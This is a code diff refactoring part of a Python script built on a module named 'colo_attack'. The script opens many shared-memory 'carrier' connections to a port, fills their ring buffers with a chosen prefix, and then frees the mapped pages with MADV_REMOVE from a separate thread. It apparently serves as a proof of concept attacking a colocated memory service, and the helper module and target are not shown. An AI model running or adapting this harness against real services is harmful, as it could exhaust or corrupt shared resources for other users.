@@ -19,7 +19,6 @@ import colo_attack as ca
 port, n, claim, window = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[5])
 prefix = sys.argv[4].encode().decode("unicode_escape").encode("latin-1")
 CAP, SIZE_RING, STEP = 64 << 20, 256 << 10, 64 << 10
-SIZE = ca.segment_size(CAP, 0, 0)
 C2S, DATA = ca.HEADER, 1024
 HEAD, TAIL, RING_SIZE = C2S, C2S + 128, C2S + 12
 first = ca.round_up(C2S + DATA, 4096)  # the first data page after the one holding the words
@@ -51,18 +50,11 @@ def claim_to(m, ctl, total, deadline):
             time.sleep(0.001)
 
 
-conns = []
-for i in range(n):
-    t, ctl, fd = ca.carrier_offer(CAP, port)
-    a = ca.answer(ctl)
-    if a != "WELCOME":
-        print("answer", a, flush=True)
-        break
-    m = mmap.mmap(fd, SIZE)
+conns = ca.welcomed_carriers(CAP, port, n)
+maps = [c[3] for c in conns]
+for m in maps:
     m[C2S + DATA:end] = (prefix + b"x" * SIZE_RING)[:SIZE_RING]
     struct.pack_into("<I", m, RING_SIZE, SIZE_RING)
-    conns.append((t, ctl, fd, m))
-maps = [c[3] for c in conns]
 for m in maps:  # the bytes written are given back once before any is claimed
     m.madvise(mmap.MADV_REMOVE, first, end - first)
 puncher = threading.Thread(target=punch, args=(maps,))
